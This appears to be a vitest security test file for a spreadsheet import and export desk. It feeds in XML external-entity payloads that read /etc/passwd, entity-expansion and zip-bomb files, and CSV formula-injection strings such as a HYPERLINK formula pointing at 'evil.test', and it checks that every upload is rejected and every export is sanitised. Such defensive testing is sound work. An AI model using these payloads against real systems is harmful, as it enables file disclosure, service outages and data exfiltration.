import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { buildStudent, buildSubmission } from '#support/factories';
import { makeImportDesk } from '#support/import-desk';
import { deflatedZeros, makeZip } from '#support/make-zip';
import { xlsxParts } from '#support/make-xlsx';

/** What somebody gains with a spreadsheet that the office takes in, or with what the office takes out as one. */

const sheet = (cells: string, before = '') =>
  makeZip(xlsxParts(`${before}<worksheet><sheetData><row r="1">${cells}</row></sheetData></worksheet>`));
const entities = (declared: string) => sheet('<c t="str"><v>&e;</v></c>', `<!DOCTYPE x [${declared}]>`);
const [book, relations] = xlsxParts('');
const bomb = (bytes: number) =>
  makeZip([book!, relations!, { name: 'xl/worksheets/sheet1.xml', packed: deflatedZeros(512), bytes }]);

test('a file of the machine, memory without end, or rows without end', async () => {
  const { context, upload } = await makeImportDesk();
  for (const [name, bytes] of [
    ['a file by an entity', entities('<!ENTITY e SYSTEM "file:///etc/passwd">')],
    ['a file by a parameter', entities('<!ENTITY % p SYSTEM "file:///etc/passwd"> %p; <!ENTITY e "x">')],
    ['entities of entities', entities('<!ENTITY a "aaaaaaaaaa"><!ENTITY e "&a;&a;&a;&a;&a;&a;&a;&a;">')],
    ['half a gigabyte in a part', bomb(512 * 1_048_576)],
    ['the same, which says that it is small', bomb(1_000)],
    ['rows that are empty', Buffer.from(`${'\n'.repeat(300_000)}a,b`)],
    ['a quotation mark that never ends', Buffer.from(`Name,Email\n"${'x'.repeat(2_000_000)}`)],
  ] as const) {
    const { status, body } = await upload(bytes, 'people.xlsx');
    expect([status, body.code], name).toEqual([400, 'bad_request']);
    expect(body.message, name).not.toContain('root:');
  }
  const kept = await context.database.reader
    .selectFrom('intakes')
    .where('state', '=', 'read')
    .selectAll()
    .execute();
  expect(kept).toEqual([]);
});

test('a formula in what the office takes out, by what students write', async () => {
  const { context, office, batch } = await makeImportDesk();
  const formulas = [
    '=HYPERLINK("http://evil.test?"&A1)',
    '+1+1',
    '@SUM(A1)',
    '-2+3',
    '\t=1',
    '＝1+1',
    'x;=1+1',
    'x\t+1',
    'x|"@SUM(A1)',
    ' =1',
    '\n=1',
    '"=1',
    'x\n-1',
  ];
  for (const text of formulas) {
    const { id } = await buildStudent(context, {
      batch_id: batch.id,
      name: text,
      typed_batch: text,
      phone: text,
    });
    await buildSubmission(context, { account_id: id, links: text, comments: text });
  }
  for (const kind of ['roster', 'submissions', 'grades', 'audit']) {
    const { status, body } = await office.get(`/api/staff/exports/${kind}`);
    expect(status, kind).toBe(200);
    // Whatever a spreadsheet splits a line at.
    for (const delimiter of [',', ';', '\t', '|']) {
      const options = { delimiter, relax_quotes: true, relax_column_count: true };
      const lines = parse(String(body).replace(/^\uFEFF/, ''), options) as string[][];
      expect(lines.length, kind).toBeGreaterThan(kind === 'audit' ? 2 : formulas.length);
      expect(
        lines.flat().filter((cell) => /^\s*[=+@＝-]/.test(cell)),
        kind + delimiter,
      ).toEqual([]);
    }
  }
});
